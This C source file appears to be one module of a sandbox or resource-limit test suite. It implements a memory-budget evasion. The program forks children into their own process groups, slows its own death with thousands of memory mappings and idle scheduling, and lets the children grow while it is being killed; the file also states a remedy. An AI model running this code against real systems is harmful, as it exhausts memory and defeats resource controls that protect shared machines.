// SPDX-License-Identifier: MIT
/*
 * slow-parent.c - the program is being killed, its children go on.
 *
 * Goal:  more memory than the budget.
 * Means: children in groups of their own, who grow while the program is being killed for the first
 *        of it. It has 65000 areas to give back, at the least priority, and so dies slowly.
 */
#include "attacks/attack.h"
#include "attacks/memory-bomb/heap.h"

#include <sched.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

enum { CHILDREN = 15, MIB = 25, AREAS = 65000 };

static _Noreturn void grow(int gate, int grown)
{
	char byte, *range;

	setpgid(0, 0);
	range = mmap(NULL, (size_t)MIB << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS,
		     -1, 0);
	while (read(gate, &byte, 1) < 0)
		continue;
	for (size_t at = 0; at < (size_t)MIB << 20; at += 4096)
		range[at] = 1;
	close(grown);
	sleep(9);
	_exit(0);
}

static enum claim run(const struct brief *b)
{
	int gate[2], grown[2];
	char *range;

	if (pipe(gate) || pipe(grown))
		return failed("pipe");
	attempting(b);
	for (int i = 0; i < CHILDREN; i++) {
		pid_t child = fork();

		if (child < 0)
			return denied("fork");
		if (child == 0) {
			close(gate[1]);
			grow(gate[0], grown[1]);
		}
	}
	range = mmap(NULL, AREAS * 4096l, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE,
		     -1, 0);
	for (long i = 0; i < AREAS && range != MAP_FAILED; i += 2)
		mprotect(range + i * 4096, 4096, PROT_READ);
	sched_setscheduler(0, SCHED_IDLE, &(struct sched_param){ 0 });
	close(gate[1]);
	await_growth(grown);
	return hold();
}

const struct attack attack = {
	.effect = "more memory than the budget",
	.means = "children in groups of their own grow while the program, large, is being killed",
	.oracle = "usage:memory",
	.attack_id = "T1499.001, CWE-770",
	.remedy =
		"kill all processes of the run at once, not the first one and its group; a cgroup",
	.refs = (const char *const[]){ "kill(2)", NULL },
	.run = run,
};
